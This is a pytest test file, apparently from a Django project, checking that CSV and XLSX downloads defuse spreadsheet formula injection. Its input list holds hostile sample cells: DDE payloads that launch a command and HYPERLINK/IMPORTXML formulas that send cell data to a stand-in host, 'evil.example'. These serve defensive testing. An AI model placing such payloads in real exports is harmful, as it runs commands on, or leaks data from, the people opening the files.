"""Lists to take away: whatever somebody wrote, the spreadsheet shows it and calculates nothing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from python_calamine import CalamineWorkbook

from tests.access import World, address, knocking, people
from xiuhua.exports.writing import writer
from xiuhua.site.reference.access import ways
from xiuhua.web.downloads import as_csv, as_xlsx, plain

CALCULATES = re.compile("[\u0000-\u0020\u00a0\u3000\u200b\ufeff\"']*[=+@\uff1d\uff0b\uff0d\uff20-]")
WRITTEN = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\u00a0=1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "'=1", '"=1', '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|'/c calc'!A0", "@cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "\ufeff=1", "\u200b=1", "  \t=1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "-2+3+cmd|'/c calc'!A0",
]  # fmt: skip


def _calculates(cell: str) -> bool:
    return not cell.startswith("'") and bool(CALCULATES.match(cell))


@pytest.mark.parametrize("words", WRITTEN)
def test_what_would_calculate_is_disarmed(words):
    assert plain(words) == "'" + words


@pytest.mark.parametrize("words", ["12345", "a=b", "C0101", "路面破损", "2026-03-15", "a - b", ""])
def test_everything_else_stays_as_it_is(words):
    assert plain(words) == words


def test_neither_header_nor_rows_of_a_list_calculate():
    text = b"".join(as_csv("a", WRITTEN, [WRITTEN]).streaming_content).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))

    assert [cell for line in lines for cell in line if _calculates(cell)] == []


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_neither_does_a_long_list_made_by_a_job(tmp_path, form):
    path = tmp_path / f"a.{form}"
    with writer(form, path, WRITTEN) as made:
        made.row(WRITTEN)

    if form == "csv":
        lines = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
        assert [cell for line in lines for cell in line if _calculates(cell)] == []
    else:
        _no_formula(path.read_bytes())


def test_a_workbook_holds_text_and_no_formula():
    _no_formula(as_xlsx("a", WRITTEN, [WRITTEN]).content)


def _no_formula(content: bytes) -> None:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert str(sheet.get_sheet_by_index(0).to_python()[1][0]).endswith("=1+1")
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        text = b"".join(packed.read(name) for name in packed.namelist() if "sheet" in name)
    assert b"<f>" not in text and b"<f " not in text and b"hyperlink" not in text


@pytest.mark.django_db
def test_every_list_that_can_be_taken_away_keeps_to_it(settings):
    """All addresses that give a csv, asked by whoever may, with such words in every text there is."""
    from tests.test_scripts_stay_text import written_everywhere

    world, seen, wrong = World(), 0, []
    taken = [
        way
        for way in ways()
        if way.method == "GET" and ("<str:form>" in way.path or ".csv" in way.path)
    ]
    paths = [(way, address(way, world)) for way in taken]
    written_everywhere("=1+1;@a")
    for way, path in paths:
        who = next(one for one in people(way) if one.may(way.needs) and not one.machine)
        client, headers = knocking(who, world)
        answer = client.get(path, **headers)
        if "csv" in answer.headers["Content-Type"]:
            seen += 1
            text = b"".join(answer.streaming_content).decode("utf-8-sig")
            cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
            wrong += [f"{path}: {cell}" for cell in cells if _calculates(cell)]

    assert seen > 4 and wrong == []
